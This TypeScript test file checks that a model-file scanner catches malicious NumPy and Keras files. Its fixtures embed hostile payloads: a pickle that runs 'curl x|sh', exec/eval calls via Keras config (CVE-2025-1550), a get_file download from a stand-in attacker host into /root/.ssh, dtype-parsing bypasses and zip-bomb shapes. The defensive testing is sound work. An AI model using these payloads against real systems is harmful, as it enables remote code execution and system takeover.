// Attack review of the NumPy (.npy/.npz) and Keras (.keras) inspectors: files that numpy
// (np.load(…, allow_pickle=True): ast.literal_eval on the header, descr_to_dtype, then
// pickle.load whenever dtype.hasobject) or Keras 3 (keras.saving.load_model: json.loads of
// config.json, deserialize_keras_object) would run, built so the inspector calls them clean
// or only medium; and inputs that cost the inspector far more than their size.
// Each test says what a correct inspector must do.
import { deflateRawSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { bufferSource, inspectArchive, inspectSource, type Finding } from '../../node/scan/inspect/index.js';
import { PickleWriter, writeNpy, writeZip } from '../fixtures/scan/builders.js';

/** posix.system('curl x|sh'), protocol 3, as np.save's pickle.dump would frame it. */
const evilPickle = (): Buffer => new PickleWriter().proto(3).global('posix', 'system').binUnicode('curl x|sh').tuple1().reduce().stop().bytes();
const kinds = (findings: readonly Finding[]): string[] => findings.map((f) => `${f.kind}:${f.severity}`);
/** What scan.ts calls "dangerous": a critical or high finding. */
const dangerous = (findings: readonly Finding[]): boolean => findings.some((f) => f.severity === 'critical' || f.severity === 'high');
const npyHeader = (descr: string): string => `{'descr': ${descr}, 'fortran_order': False, 'shape': (1,), }`;

describe('a .npy whose object dtype numpy sees and the inspector does not', () => {
  // Every header here was checked with numpy 2.4: np.load(…, allow_pickle=True) runs the pickle.
  const cases: [string, string][] = [
    ["descr 'object' (a dtype name, not a type code)", npyHeader("'object'")],
    ["descr '(2,)O' (a subarray of objects as one string)", npyHeader("'(2,)O'")],
    ["descr 'i4,O' (a structured dtype as one comma string)", npyHeader("'i4,O'")],
    ["descr 'T' (StringDType: hasobject is true)", npyHeader("'T'")],
    ["descr ('|O', (2,)) (a subarray tuple)", npyHeader("('|O', (2,))")],
    ["a field given as a list: [['a', '|O']]", npyHeader("[['a', '|O']]")],
    ["a field named it's, exactly as np.save writes it: [(\"it's\", '|O')]", npyHeader(`[("it's", '|O')]`)],
    ["a field that is a subarray tuple: [('a', ('|O', (2,)))]", npyHeader("[('a', ('|O', (2,)))]")],
    ["an escaped descr: '|\\x4f'", npyHeader("'|\\x4f'")],
    ["adjacent literals: '|' 'O'", npyHeader("'|' 'O'")],
    ["a triple-quoted descr: '''|O'''", npyHeader("'''|O'''")],
    ["a duplicate, double-quoted descr key (the last one wins)", `{'descr': '<f4', 'fortran_order': False, 'shape': (1,), "descr": "|O"}`],
    ["double-quoted keys and a decoy descr in a comment", `{"descr": "|O", "fortran_order": False, "shape": (1,)} # 'descr': '<f4', 'shape'`],
    ["keys out of order and a field named like a decoy descr", `{'fortran_order': False, 'shape': (1,), 'descr': [("'descr': '<f4'", '|O')], }`],
  ];
  for (const [name, header] of cases) {
    it(`${name}: its pickle is walked and the shell command is critical`, async () => {
      const r = await inspectSource(bufferSource(writeNpy(header, evilPickle())));
      expect(r.format).toBe('npy');
      expect(kinds(r.findings), JSON.stringify(r.meta)).toContain('dangerous-import:critical');
    });
  }

  it('controls (already handled): |O, <O8, "O", a 3-tuple field, a nested structured field', async () => {
    for (const descr of ["'|O'", "'<O8'", '"O"', "[('a', '<i4'), ('b', '|O', (2,))]", "[('a', [('b', '<f8'), ('c', '|O')])]"]) {
      const r = await inspectSource(bufferSource(writeNpy(npyHeader(descr), evilPickle())));
      expect(kinds(r.findings), descr).toContain('dangerous-import:critical');
    }
  });

  it('a protocol 0 pickle that breaks after its payload ran still reports the payload', async () => {
    // pickle.load runs posix.system at R, then fails on the bad opcode: too late.
    const pkl = Buffer.from("cposix\nsystem\n(S'curl x|sh'\ntR\xff", 'latin1');
    const r = await inspectSource(bufferSource(writeNpy(npyHeader("'|O'"), pkl)));
    expect(kinds(r.findings)).toContain('dangerous-import:critical');
  });
});

describe('a .npy header built to make the header regexes backtrack', () => {
  // numpy ignores its 10,000-byte header cap under allow_pickle=True; the inspector reads up to 1 MiB.
  // Time grows with the square of the header: at 1 MiB each takes minutes (an .npz can hold thousands).
  // Here 144 KB, a couple of seconds today; a linear reader needs milliseconds.
  // The header matcher has no ambiguous repetition: these run in linear time (no timing asserted here;
  // a quadratic matcher would take minutes and hit the test timeout).
  it("many `'descr':[` with no closing bracket: inspected, and fails closed", async () => {
    const f = writeNpy(`{${"'descr':[".repeat(16_000)}`, Buffer.alloc(0), 2);
    const r = await inspectSource(bufferSource(f));
    expect(r.format).toBe('npy');
    expect(r.meta).toMatchObject({ objectDtype: true });
  });

  it("many `'shape':(` with no closing parenthesis: inspected, and fails closed", async () => {
    const f = writeNpy(`{'descr': '<f4', 'fortran_order': False, ${"'shape':(".repeat(16_000)}`, Buffer.alloc(0), 2);
    const r = await inspectSource(bufferSource(f));
    expect(r.format).toBe('npy');
    expect(r.meta).toMatchObject({ objectDtype: true });
  });
});

/** A zip whose first bytes are an empty end-of-central-directory record: np.load opens it as an .npz. */
function zipAfterEmptyEocd(zip: Buffer): Buffer {
  const pre = Buffer.alloc(22);
  pre.writeUInt32LE(0x06054b50, 0);
  const out = Buffer.concat([pre, zip]);
  const eocd = out.length - 22;
  const dirAt = out.readUInt32LE(eocd + 16) + 22;
  out.writeUInt32LE(dirAt, eocd + 16);
  for (let p = dirAt; p < eocd; p += 46 + out.readUInt16LE(p + 28) + out.readUInt16LE(p + 30) + out.readUInt16LE(p + 32)) {
    out.writeUInt32LE(out.readUInt32LE(p + 42) + 22, p + 42);
  }
  return out;
}

/** One local member and `copies` central entries all pointing at it (a non-recursive zip bomb's shape). */
function overlappingZip(name: string, body: Buffer, declared: number, copies: number): Buffer {
  const nm = Buffer.from(name);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(body.length, 18);
  local.writeUInt32LE(declared, 22);
  local.writeUInt16LE(nm.length, 26);
  const central: Buffer[] = [];
  for (let i = 0; i < copies; i++) {
    const c = Buffer.alloc(46);
    c.writeUInt32LE(0x02014b50, 0);
    c.writeUInt16LE(20, 4);
    c.writeUInt16LE(20, 6);
    c.writeUInt16LE(8, 10);
    c.writeUInt32LE(body.length, 20);
    c.writeUInt32LE(declared, 24);
    c.writeUInt16LE(nm.length, 28);
    central.push(c, nm);
  }
  const dir = Buffer.concat(central);
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(copies, 8);
  eocd.writeUInt16LE(copies, 10);
  eocd.writeUInt32LE(dir.length, 12);
  eocd.writeUInt32LE(30 + nm.length + body.length, 16);
  return Buffer.concat([local, nm, body, dir, eocd]);
}

describe('.npz archives', () => {
  const objectNpy = (): Buffer => writeNpy(npyHeader("'|O'"), evilPickle());

  it('a compressed member not named .npy (np.load reads any member with the NumPy magic as an array)', async () => {
    const z = writeZip([{ name: 'arr', data: objectNpy(), deflate: true }]);
    const r = await inspectArchive(bufferSource(z));
    expect(kinds(r.findings)).toContain('dangerous-import:critical');
  });

  it("a file starting with an empty zip's end record (np.load: PK\\x05\\x06 is a zip) is opened as an archive", async () => {
    const f = zipAfterEmptyEocd(writeZip([{ name: 'arr.npy', data: objectNpy(), deflate: true }]));
    const r = await inspectSource(bufferSource(f));
    expect(kinds(r.findings), r.format).toContain('dangerous-import:critical');
  });

  it('the same large deflated array listed 200 times is not read and inflated 200 times', async () => {
    // Beyond zipMemberBytes the first 64 KiB of compressed bytes are inflated for the header: up to
    // 66 MB each (here ~4 MB, to keep the test quick). Padding keeps the declared ratio under zipRatio.
    // Listing the member again costs 51 bytes of central directory; each listing is already a zip-bomb
    // finding, yet each is read and inflated again: 200,000 entries of a 10 MB file are hours of CPU.
    const declared = 65 * 1024 * 1024;
    const mixed = Buffer.alloc(6 * 1024 * 1024);
    for (let i = 0, x = 1; i < mixed.length; i += 128) mixed[i] = (x = (Math.imul(x, 1103515245) + 12345) >>> 0) >>> 24;
    const head = deflateRawSync(Buffer.concat([writeNpy(npyHeader("'<f4'"), Buffer.alloc(0)), mixed]));
    const body = Buffer.concat([head, Buffer.alloc(Math.ceil(declared / 190) - head.length, 0x55)]);
    const z = overlappingZip('a.npy', body, declared, 200);
    const inner = bufferSource(z);
    let bytesRead = 0;
    const counted = { size: inner.size, read: async (offset: number, length: number): Promise<Buffer> => { const b = await inner.read(offset, length); bytesRead += b.length; return b; } };
    const r = await inspectArchive(counted);
    expect(kinds(r.findings)).toContain('zip-bomb:high');
    expect(bytesRead, `${bytesRead} bytes read from a file of ${z.length}`).toBeLessThan(4 * z.length + 256 * 1024);
  });
});

describe('Keras archives', () => {
  const keras = (config: unknown, name = 'config.json', prefix: Buffer = Buffer.alloc(0)): Buffer => writeZip([
    { name: 'metadata.json', data: Buffer.from(JSON.stringify({ keras_version: '3.6.0' })) },
    { name, data: Buffer.concat([prefix, Buffer.from(typeof config === 'string' ? config : JSON.stringify(config))]), deflate: true },
    { name: 'model.weights.h5', data: Buffer.from('\x89HDF\r\n\x1a\n', 'latin1') },
  ]);
  const dense = { module: 'keras.layers', class_name: 'Dense', config: { name: 'dense', units: 4, activation: 'relu' }, registered_name: null };
  const lambda = { module: 'keras.layers', class_name: 'Lambda', config: { name: 'payload', function: { class_name: '__lambda__', config: { code: 'YWJj', defaults: null, closure: null } } }, registered_name: null };
  const sequential = (layers: unknown[], extra: Record<string, unknown> = {}): Record<string, unknown> =>
    ({ module: 'keras', class_name: 'Sequential', config: { name: 'seq', layers }, registered_name: null, ...extra });
  /** A functional model whose one "layer" is `layer`, called with `args` when the graph is rebuilt. */
  const functional = (layer: Record<string, unknown>, args: unknown[], kwargs: Record<string, unknown> = {}): unknown => ({
    module: 'keras', class_name: 'Functional', registered_name: 'Functional',
    config: {
      name: 'f', trainable: true,
      layers: [
        { module: 'keras.layers', class_name: 'InputLayer', config: { batch_shape: [null, 1], dtype: 'float32', name: 'in' }, registered_name: null, name: 'in', inbound_nodes: [] },
        { ...layer, name: 'l', inbound_nodes: [{ args, kwargs }] },
      ],
      input_layers: [['in', 0, 0]], output_layers: [['in', 0, 0]],
    },
  });

  it('marshalled bytecode outside a Lambda layer (a __lambda__ loss in compile_config) is embedded code', async () => {
    const cfg = sequential([dense], { compile_config: { optimizer: 'adam', loss: { class_name: '__lambda__', config: { value: ['YWJj', null, null] } }, metrics: null } });
    const r = await inspectArchive(bufferSource(keras(cfg)));
    expect(kinds(r.findings)).toContain('embedded-code:high');
  });

  it('a Lambda layer named by its API path (module "keras", class_name "layers.Lambda") is embedded code', async () => {
    const r = await inspectArchive(bufferSource(keras(sequential([{ ...lambda, module: 'keras', class_name: 'layers.Lambda' }]))));
    expect(kinds(r.findings)).toContain('embedded-code:high');
  });

  it('a function object names its function in config: builtins "function" "exec", called with a string (CVE-2025-1550)', async () => {
    const fn = { module: 'builtins', class_name: 'function', config: 'exec', registered_name: 'exec' };
    const r = await inspectArchive(bufferSource(keras(functional(fn, ["__import__('os').system('curl x|sh')"]))));
    expect(kinds(r.findings)).toContain('dangerous-import:critical');
  });

  it('Keras falls back to registered_name when the named attribute is missing: builtins.eval is critical', async () => {
    const fn = { module: 'builtins', class_name: 'function', config: 'no_such_function', registered_name: 'eval' };
    const r = await inspectArchive(bufferSource(keras(functional(fn, ["__import__('os').system('curl x|sh')"]))));
    expect(kinds(r.findings)).toContain('dangerous-import:critical');
  });

  it('keras.utils.get_file called from the config (CVE-2025-8747, safe mode in 3.9 and 3.10) is at least high', async () => {
    const fn = { module: 'keras.utils', class_name: 'function', config: 'get_file', registered_name: 'get_file' };
    const r = await inspectArchive(bufferSource(keras(functional(fn, ['authorized_keys'], { origin: 'https://attacker.invalid/k', cache_dir: '/root', cache_subdir: '.ssh' }))));
    expect(dangerous(r.findings), JSON.stringify(kinds(r.findings))).toBe(true);
  });

  it('a TorchModuleWrapper layer carries a torch.save pickle that from_config torch.loads', async () => {
    const torchSave = writeZip([{ name: 'archive/data.pkl', data: evilPickle() }]).toString('base64');
    const layer = { module: 'keras.layers', class_name: 'TorchModuleWrapper', config: { name: 'torch_module_wrapper', trainable: true, module: torchSave, output_shape: null }, registered_name: 'TorchModuleWrapper' };
    const r = await inspectArchive(bufferSource(keras(sequential([layer]))));
    expect(dangerous(r.findings), JSON.stringify(kinds(r.findings))).toBe(true);
  });

  it('a Lambda beside a sibling nested past the depth limit is still reported (the limit skips a branch, not the rest)', async () => {
    const deep = JSON.parse(`${'['.repeat(300)}${']'.repeat(300)}`) as unknown;
    const r = await inspectArchive(bufferSource(keras(sequential([dense, lambda], { zzz: deep }))));
    expect(kinds(r.findings)).toContain('embedded-code:high');
    expect(r.findings.map((f) => f.kind)).toContain('limit');
  });

  it('os.system after 10,000 distinct custom objects is still critical', async () => {
    const hostile = { module: 'os', class_name: 'system', config: {} };
    const customs = Array.from({ length: 10_000 }, (_, i) => ({ module: `lab${i}.layers`, class_name: 'Gate', config: {} }));
    const r = await inspectArchive(bufferSource(keras(sequential([hostile, ...customs]))));
    expect(kinds(r.findings)).toContain('dangerous-import:critical');
  });

  it('a config.json with a UTF-8 BOM (json.loads of bytes accepts it) is read', async () => {
    const r = await inspectArchive(bufferSource(keras(sequential([lambda]), 'config.json', Buffer.from([0xef, 0xbb, 0xbf]))));
    expect(kinds(r.findings)).toContain('embedded-code:high');
  });

  it('a config.json with NaN and Infinity (Python json writes and reads them) is read', async () => {
    const text = JSON.stringify(sequential([dense, lambda])).replace('"units":4', '"units":4,"min_value":NaN,"max_value":Infinity');
    const r = await inspectArchive(bufferSource(keras(text)));
    expect(kinds(r.findings)).toContain('embedded-code:high');
  });

  it('a .keras with nothing but config.json (load_model builds the model before it looks for weights)', async () => {
    const z = writeZip([{ name: 'config.json', data: Buffer.from(JSON.stringify(sequential([dense, lambda]))), deflate: true }]);
    const r = await inspectArchive(bufferSource(z));
    expect(kinds(r.findings)).toContain('embedded-code:high');
  });

  it("a member named \"config.json\\0x\" (Python's zipfile cuts names at NUL: it is config.json)", async () => {
    const r = await inspectArchive(bufferSource(keras(sequential([lambda]), 'config.json\u0000x')));
    expect(kinds(r.findings)).toContain('embedded-code:high');
  });
});
